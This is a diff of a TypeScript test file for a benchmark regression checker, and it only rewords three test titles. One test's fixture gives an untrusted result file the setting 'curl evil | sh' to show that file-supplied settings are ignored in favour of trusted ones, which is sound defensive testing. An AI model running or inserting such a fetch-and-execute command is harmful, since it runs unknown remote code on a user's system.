@@ -23,7 +23,7 @@ describe('judge elsewhere', () => {
   }
   const slower = (more = {}) => resultFrom([time('A', 1)], [time('A', 2)], { confirm: true, ...more })
 
-  test('a regression that a file does not own up to is one, by our threshold', () => {
+  test("regressions are judged by our threshold, not by the file's verdict", () => {
     const file = {
       ...slower({ threshold: 1, alpha: 1e-9, run: 'make bench' }),
       verdict: 'pass' as const,
@@ -57,7 +57,7 @@ describe('judge elsewhere', () => {
     ])
   })
 
-  test('where none can be read it says why', () => {
+  test('if no file can be read, the error says why', () => {
     const broken = { name: 'a/result.json', problem: 'It is a link.' }
     expect(() => judgeElsewhere([broken], known)).toThrow('a/result.json": It is a link.')
   })
@@ -82,7 +82,7 @@ describe('judge elsewhere', () => {
 describe('trusted settings', () => {
   const inputs = (given: Readonly<Record<string, string>>) => readInputs(name => given[name] ?? '')
 
-  test('nothing that a file says of its settings counts', () => {
+  test('the settings in a file have no effect', () => {
     const theirs: Settings = { ...settings, threshold: 1, alpha: 0.5, failOn: 'never', run: 'curl evil | sh' }
     const ours = trustedSettings(inputs({ run: 'make bench', threshold: '3%' }), theirs)
     expect(ours).toMatchObject({ threshold: 0.03, alpha: 0.05, failOn: 'regression', run: 'make bench' })
